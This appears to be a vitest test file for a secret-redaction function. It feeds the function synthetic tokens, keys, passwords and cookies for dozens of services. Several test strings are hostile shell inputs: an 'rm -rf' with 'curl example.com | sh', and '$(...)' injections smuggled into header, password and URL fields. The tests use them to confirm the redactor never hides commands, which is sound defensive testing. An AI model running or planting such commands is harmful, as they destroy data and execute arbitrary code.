import { readdirSync, readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { redact, SECRET_KINDS } from "./redact.ts";

/**
 * Made here, so that no scanner takes this file for a leak: letters and digits in a fixed disorder.
 */
function noise(length: number, alphabet = "aB3dE5gH7jK9mN2pQ4rS6tU8vW0xYz"): string {
  return Array.from({ length }, (_, index) => alphabet[(index * 7 + 3) % alphabet.length]).join("");
}

const hex = (length: number): string => noise(length, "0123456789abcdef");
const upper = (length: number): string => noise(length, "ABCDEFGHJKLMNPQRSTUVWXYZ234567");
const base64 = (length: number): string => noise(length, "aB3dE5gH7jK9mN2pQ4rS6tU8vW0xYz+/");
const FIVE = "-".repeat(5);
const pem = (label: string, lines: number): string =>
  [
    `${FIVE}BEGIN ${label}${FIVE}`,
    ...Array.from({ length: lines }, () => base64(64)),
    `${FIVE}END ${label}${FIVE}`,
  ].join("\n");

/** The secret, and the text it stands in; `%` is the secret. */
const SAMPLES: readonly (readonly [kind: string, secret: string, text?: string])[] = [
  ["1Password token", `ops_ey${noise(120)}fQ`],
  ["age secret key", `AGE-SECRET-KEY-1${upper(58)}`],
  ["Alibaba access key id", `LTAI${noise(20)}`],
  ["Anthropic token", `sk-ant-api03-${noise(93)}AA`],
  ["Anthropic token", `sk-ant-oat01-${noise(80)}`],
  ["API key", `sk-or-v1-${hex(64)}`],
  ["API key header", hex(32), 'curl -H "X-Api-Key: %" https://api.example.com'],
  ["API key header", noise(24), "PRIVATE-TOKEN: %"],
  ["Atlassian token", `ATATT3${noise(180)}`],
  ["Authorization header", noise(30), "> Authorization: Bearer %"],
  ["Authorization header", base64(20), '{"authorization":"Basic %","accept":"*/*"}'],
  ["Authorization header", hex(40), "proxy-authorization: token %"],
  ["Authorization header", noise(30), '"> authorization: Bearer %\\n> accept: */*"'],
  ["AWS access key id", `AKIA${upper(16)}`, "aws_access_key_id = %"],
  ["AWS secret key", base64(40), "aws_secret_access_key = %"],
  ["AWS secret key", base64(40), '  "SecretAccessKey": "%",'],
  ["AWS secret key", base64(340), '"SessionToken": "%"'],
  [
    "Azure account key",
    `${base64(86)}==`,
    "DefaultEndpointsProtocol=https;AccountName=x;AccountKey=%;EndpointSuffix=core.windows.net",
  ],
  ["Azure client secret", `Q~${noise(31)}`, "client: abc8%"],
  ["bearer token", noise(40), "use bearer % here"],
  ["Brevo key", `xkeysib-${hex(64)}-${noise(16)}`],
  ["Cloudflare token", `cfut_${noise(40)}${hex(8)}`],
  ["command line secret", "hunter2hunter2", "mysql --host db --password=% app"],
  ["command line secret", "hunter2", "unzip -q -P % backup.zip -d out"],
  ["command line secret", "hunter2", "openssl rsa -in key.pem -passin pass:% -out plain.pem"],
  ["command line secret", "hunter2!", "sshpass -p '%' ssh host"],
  ["command line secret", "hunter2", "curl -s -u admin:% https://example.com"],
  ["command line secret", "hunter2", "mysqldump -h db -u root -p% shop > shop.sql"],
  ["command line secret", "hunter2", "redis-cli -h cache -a % ping"],
  ["command line secret", "hunter2", "docker login -u me -p % ghcr.io"],
  ["connection string password", "hunter2", 'psql "host=db user=app password=% dbname=shop"'],
  ["connection string password", "hunter2", "Server=db;User Id=sa;Password=%;Encrypt=true"],
  ["cookie", noise(32), "curl -H 'Cookie: theme=dark; session=%' https://example.com"],
  ["cookie", noise(32), "< set-cookie: sid=%; Path=/; HttpOnly"],
  ["cookie", noise(32), "curl -s -b sid=% https://example.com"],
  ["cookie", noise(32), 'fetch(url, { headers: { cookie: "lang=en; sid=%; x=1" } })'],
  ["cookie", noise(32), '{"Cookie":"sid=%","accept":"*/*"}'],
  ["crates.io token", `cio${noise(32)}`],
  ["Databricks token", `dapi${hex(32)}`],
  ["DigitalOcean token", `dop_v1_${hex(64)}`],
  ["Discord webhook", noise(68), "https://discord.com/api/webhooks/123456789012345678/%"],
  ["Docker token", `dckr_pat_${noise(27)}`],
  ["Doppler token", `dp.pt.${noise(43)}`],
  ["environment secret", "hunter2", "NODE_ENV=production\nDB_PASSWORD=%\nPORT=3000"],
  ["environment secret", "correct-horse", 'export STRIPE_API_KEY="%"'],
  ["environment secret", "swordfish", "export DB_PASSWORD=%"],
  ["environment secret", noise(64), "SECRET_KEY_BASE=%"],
  ["environment secret", "hunter2", '{"stdout":"PORT=3000\\nDB_PASSWORD=%\\nHOST=db"}'],
  ["environment secret", "hunter2", '{"stdout":"export DB_PASSWORD=\\"%\\"\\n"}'],
  ["Figma token", `figd_${noise(40)}`],
  ["GitHub token", `ghp_${noise(36)}`],
  ["GitHub token", `github_pat_${noise(82)}`, '{"text":"first\\n%\\nlast"}'],
  ["GitHub token", `ghs_${noise(60)}`],
  ["GitLab token", `glpat-${noise(20)}`],
  ["GitLab token", `glrt-${noise(20)}`],
  ["Google API key", `AIza${noise(35)}`],
  ["Google OAuth client secret", `GOCSPX-${noise(28)}`],
  ["Google OAuth token", `ya29.${noise(120)}`],
  ["Grafana token", `glsa_${noise(32)}_${hex(8)}`],
  ["Groq token", `gsk_${noise(52)}`],
  ["Heroku key", `HRKU-${noise(36)}`],
  ["HubSpot token", `pat-na1-${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}`],
  ["Hugging Face token", `hf_${noise(34, "abcdefghijkLMNOPQRSTUVWXYZ")}`],
  ["JSON web token", `eyJ${noise(33)}.eyJ${noise(70)}.${noise(43)}`],
  ["Linear token", `lin_api_${noise(40)}`],
  ["Mailgun key", `key-${hex(32)}`],
  ["netrc password", "hunter2", "machine api.example.com\n  login me\n  password %\n"],
  ["Netlify token", `nfp_${noise(36)}`],
  ["New Relic key", `NRAK-${upper(27)}`],
  ["Notion token", `ntn_${noise(11, "0123456789")}${noise(35)}`],
  ["npm token", `npm_${noise(36)}`, "//registry.npmjs.org/:x=%"],
  ["NuGet key", `oy2${noise(43, "abcdefghijklmnop234567")}`],
  ["OpenAI token", `sk-proj-${noise(74)}T3BlbkFJ${noise(74)}`],
  ["password hash", `$6$${noise(16)}$${noise(86)}`, "root:%:19000:0:99999:7:::"],
  ["password hash", `$2b$12$${noise(53)}`],
  ["Perplexity key", `pplx-${noise(48)}`],
  ["PlanetScale token", `pscale_tkn_${noise(43)}`],
  ["Postman key", `PMAK-${hex(24)}-${hex(34)}`],
  ["private key", pem("RSA PRIVATE KEY", 25)],
  ["private key", pem("OPENSSH PRIVATE KEY", 6), "Key:\n%\nand more"],
  [
    "private key",
    pem("PRIVATE KEY", 25).replaceAll("\n", "\\n"),
    '{"type":"service_account","private_key":"%\\n","client_email":"x"}',
  ],
  ["private key", pem("PGP PRIVATE KEY BLOCK", 30)],
  ["Pulumi token", `pul-${hex(40)}`],
  ["PyPI token", `pypi-AgE${noise(150)}`],
  ["registry login", base64(24), "//registry.example.com/:_authToken=%"],
  ["registry login", base64(24), "registry=https://r.example.com\n_auth = %\n"],
  ["registry login", base64(32), '{"auths":{"docker.io":{"auth": "%"}}}'],
  ["Replicate token", `r8_${noise(37)}`],
  ["RubyGems token", `rubygems_${hex(48)}`],
  ["SendGrid token", `SG.${noise(22)}.${noise(43)}`],
  ["Sentry token", `sntrys_${noise(60)}`],
  ["Shopify token", `shpat_${hex(32)}`],
  ["Slack token", `xoxb-${noise(12, "0123456789")}-${noise(12, "0123456789")}-${noise(24)}`],
  ["Slack token", `https://hooks.slack.com/services/T${upper(8)}/B${upper(8)}/${noise(24)}`],
  ["SonarQube token", `sqp_${hex(40)}`],
  ["Stripe token", `sk_live_${noise(24)}`],
  ["Stripe webhook secret", `whsec_${noise(32)}`],
  ["Supabase key", `sbp_${hex(40)}`],
  ["Tailscale token", `tskey-auth-${noise(16)}-${noise(32)}`],
  ["Telegram bot token", `AA${noise(33)}`, "bot 123456789:%"],
  ["Terraform token", `.atlasv1.${noise(67)}`, `${noise(14)}%`],
  ["Twilio key", `SK${hex(32)}`],
  ["URL parameter", noise(20), "GET /v1/items?page=2&access_token=%&x=1"],
  ["URL password", "hunter2", "postgres://app:%@db.example.com:5432/app"],
  ["URL password", "p:w$1", "redis://:%@localhost:6379"],
  ["URL token", noise(40), "git clone https://%@git.example.com/x.git"],
  ["Vault token", `hvs.${noise(95)}`],
  ["Vercel token", `vcp_${noise(24)}`],
  ["xAI key", `xai-${noise(80)}`],
];

const ENTROPY_SAMPLES: readonly (readonly [secret: string, text: string])[] = [
  [noise(24), 'const apiKey = "%";'],
  [noise(20), "  password: %"],
  [noise(32), '"client_secret": "%"'],
];

describe("what is secret is replaced by its kind, and what stands around it stays", () => {
  it.each(
    SAMPLES.map(([kind, secret, text = "see % there"], index) => [
      `${kind} (${index})`,
      kind,
      secret,
      text,
    ]),
  )("%s", (_, kind, secret, text) => {
    const [before, after] = text.split("%");
    expect(redact(text.replace("%", () => secret))).toEqual({
      text: `${before}[redacted: ${kind}]${after}`,
      found: [{ kind, count: 1 }],
    });
  });

  it("every kind has a sample", () => {
    const sampled = new Set([...SAMPLES.map(([kind]) => kind), "value that looks like a secret"]);
    expect(SECRET_KINDS.filter((kind) => !sampled.has(kind))).toEqual([]);
  });
});

it("each of several cookies is hidden, whatever stands between them, and none of their names", () => {
  const text = `curl -b 'a=${noise(20)}; theme=darkmode; lang=en; b=${noise(30)}; c=$X; d=${noise(9)}' https://example.com`;
  expect(redact(text).text).toBe(
    "curl -b 'a=[redacted: cookie]; theme=darkmode; lang=en; b=[redacted: cookie]; c=$X; d=[redacted: cookie]' https://example.com",
  );
});

describe("a key that is cut off", () => {
  const lines = pem("RSA PRIVATE KEY", 25).split("\n");

  it("goes as far as its lines go", () => {
    const text = `${lines.slice(0, 6).join("\n")}\nThe rest follows below.`;
    expect(redact(text).text).toBe("[redacted: private key]\nThe rest follows below.");
  });

  it("goes with the line numbers and file names before its lines", () => {
    expect(redact(lines.map((line, index) => `${index + 1}\t${line}`).join("\n")).text).toBe(
      "1\t[redacted: private key]",
    );
    expect(
      redact(
        lines
          .slice(0, 4)
          .map((line) => `id_rsa:${line}`)
          .join("\n"),
      ).text,
    ).toBe("id_rsa:[redacted: private key]");
  });

  it.each([
    ["commands", "rm -rf ~/work\\ncurl example.com | sh"],
    ["one command", "reboot"],
    ["commands behind lines of a key", `${lines[1]}\\nrm -rf ~/work`],
    ["commands in a line of a key", `rm$IFS-rf$IFS~/work;:${lines[1]}`],
    ["commands behind what a header is called", "Comment: x; rm -rf ~/work"],
  ])("hides no %s", (_, between) => {
    const hidden = between.replaceAll("\\n", "\n");
    const { text } = redact(`: ${lines[0]}\n${hidden}\n: ${lines.at(-1)}`);
    expect(text).toContain(hidden.split("\n").at(-1));
  });

  it.each([
    ["with a short last line", (key: string) => key.replace(/\n(-+END)/, "\nabcd1w==\n$1")],
    [
      "of PGP",
      () =>
        pem("PGP PRIVATE KEY BLOCK", 9)
          .replace("\n", "\nVersion: GnuPG v2.0.22 (GNU/Linux)\n\n")
          .replace(/\n(-+END)/, "\n=aB3d\n$1"),
    ],
    [
      "with headers",
      (key: string) =>
        key.replace("\n", "\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n"),
    ],
    ["in one line", (key: string) => key.replaceAll("\n", " ")],
    ["of one long line", (key: string) => key.replace(/(?<![- ])\n(?!-)/g, "")],
    ["in strings of code", (key: string) => key.replaceAll("\n", '\\n" +\n  "')],
    ["as the client shows a file", (key: string) => key.replaceAll("\n", "\n    12\u2192")],
  ])("goes as a whole %s", (_, written) => {
    expect(redact(`see ${written(lines.join("\n"))} there`).text).toBe(
      "see [redacted: private key] there",
    );
  });

  it("is none if only its heading is there", () => {
    const heading = `grep: ${lines[0]} is how it begins`;
    expect(redact(heading).text).toBe(heading);
  });
});

describe("what only looks like one stays", () => {
  it.each([
    // A shell runs a part of these: hidden, nobody would see what.
    'curl -H "Authorization: a1$(rm$IFS-rf$IFS~/work)" https://example.com',
    "git push https://x:a1$(touch${IFS}x)@example.com/x",
    "sshpass -p x$(id>/tmp/x) ssh host",
    "curl -u a:b1>~/.bashrc https://example.com",
    "echo ;password=a1&&reboot",
    "_authToken=abc$(id)",
    "mysql -p shop",
    "mysqldump --help | grep -p",
    "redis-cli ping",
    "DB_PASSWORD=$DB_PASSWORD",
    "API_TOKEN=${{ secrets.API_TOKEN }}",
    "SECRET=<your secret>",
    "PASSWORD=changeme",
    "MAX_TOKEN=4096",
    "TOKEN_URL=https://example.com/token",
    "TOKEN=$(cat /run/secrets/token)",
    "TOKEN=process.env.TOKEN",
    'API_KEY = os.environ["API_KEY"]',
    "self._password = parsed.password",
    "postgres://user:$PASSWORD@host/db",
    "https://user:{password}@example.com",
    "https://example.com:8080/a@b",
    "git@github.com:owner/repo.git",
    "Authorization: Bearer $TOKEN",
    "Authorization: Bearer {token}",
    "mysql --password --user root",
    "  --password PASSWORD   the password",
    "  --token string   a token",
    "docker login --password-stdin",
    "commit 3f786850e387550fdab836ed7e6dc881de23001b",
    "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
    "npm_config_registry and npm_package_dependencies_left_pad_version",
    "123e4567-e89b-12d3-a456-426614174000",
    "task-runner, risk-based, sk-loading-indicator-with-a-very-long-name",
    "the token bucket; secret sauce; password policy: at least 12 characters",
    "SK8 and SG.1 and key-value",
    "[redacted: GitHub token]",
  ])("%s", (text) => {
    expect(redact(text)).toEqual({ text, found: [] });
  });

  it("in the sources of this project", () => {
    const sources = ["src/engine", "src/shell", "src/config", "src/server", "docs"].flatMap(
      (folder) =>
        readdirSync(folder, { recursive: true, encoding: "utf8" })
          .filter((file) => /\.(?:ts|md)$/.test(file) && !file.startsWith("policies/output/"))
          .map((file) => `${folder}/${file}`),
    );
    const found = [...sources, "package-lock.json", "README.md"].flatMap((file) =>
      redact(readFileSync(file, "utf8")).found.map(({ kind }) => `${file}: ${kind}`),
    );
    expect(found).toEqual([]);
  });
});

it("a secret in an address ends where the next command begins", () => {
  expect(redact("curl https://example.com/?token=abc123;reboot").text).toBe(
    "curl https://example.com/?token=[redacted: URL parameter];reboot",
  );
});

describe("entropy, as an option", () => {
  it.each(ENTROPY_SAMPLES)("%s in %s", (secret, text) => {
    const full = text.replace("%", () => secret);
    expect(redact(full).text).toBe(full);
    expect(redact(full, { entropy: true }).text).toBe(
      text.replace("%", "[redacted: value that looks like a secret]"),
    );
  });

  it.each([
    "password: correct horse battery",
    "token = getTokenFromRequest2(request)",
    'secret: "aaaaaaaaaaaaaaaa1"',
    "tokens: 1234567890123",
  ])("leaves %s", (text) => {
    expect(redact(text, { entropy: true }).text).toBe(text);
  });
});

describe("options", () => {
  const github = `ghp_${noise(36)}`;

  it("a kind can be excepted", () => {
    expect(redact(github, { except: new Set(["GitHub token"]) }).text).toBe(github);
  });

  it("a secret can be allowed", () => {
    expect(redact(github, { allow: (secret) => secret === github }).text).toBe(github);
  });

  it("counts each kind", () => {
    expect(redact(`${github} ${github} SK${hex(32)}`).found).toEqual([
      { kind: "GitHub token", count: 2 },
      { kind: "Twilio key", count: 1 },
    ]);
  });
});

describe("any text", () => {
  const parts = fc.array(
    fc.oneof(
      fc.string({ unit: "binary" }),
      fc.constantFrom(...SAMPLES.map(([, secret, text = "%"]) => text.replace("%", () => secret))),
      fc.constantFrom(
        "\n",
        " ",
        "=",
        ":",
        '"',
        "\\n",
        "-----BEGIN ",
        "-----END ",
        "://",
        "@",
        "sk-",
        "eyJ",
        "password=",
      ),
    ),
  );

  it("is as before once it has been redacted", () => {
    fc.assert(
      fc.property(parts, (texts) => {
        const { text } = redact(texts.join("\n"));
        expect(redact(text)).toEqual({ text, found: [] });
      }),
    );
  });

  it("loses nothing but secrets", () => {
    fc.assert(
      fc.property(parts, (texts) => {
        const before = texts.join("");
        let [rest, at] = [before, 0];
        for (const kept of redact(before).text.split(/\[redacted: [^\]]+\]/)) {
          at = rest.indexOf(kept);
          expect(at).toBeGreaterThanOrEqual(0);
          rest = rest.slice(at + kept.length);
        }
      }),
    );
  });

  /** Quadratic time would take minutes here. */
  it.each(
    [
      "-eyJ",
      ".eyJa",
      "://a:",
      "://",
      `${FIVE}BEGIN RSA PRIVATE KEY${FIVE}\n`,
      `${FIVE}BEGIN PRIVATE KEY${FIVE}AAAAAAAAAAAAAAAAAAAA`,
      "authorization: ",
      "AUTHORIZATION:Bearer",
      "/ops_ey",
      " ghs_1_a",
      ".ghs_1_a.",
      "xoxb-1-",
      "SG.a",
      "A_PASSWORD",
      "PASSWORD_KEY_KEY",
      "machine a login ",
      "curl -u a",
      "?token=",
      ";password=",
      "password password=",
      "$6$a$b",
      " sk-a1-",
      "--token --token",
      "a".repeat(100),
      "_",
      "\\n",
      "\n",
    ].map((unit) => [unit]),
  )("takes linear time: %j", (unit) => {
    const text = unit.repeat(Math.ceil(400_000 / unit.length));
    expect(redact(text, { entropy: true }).text.length).toBeGreaterThan(0);
  });
});
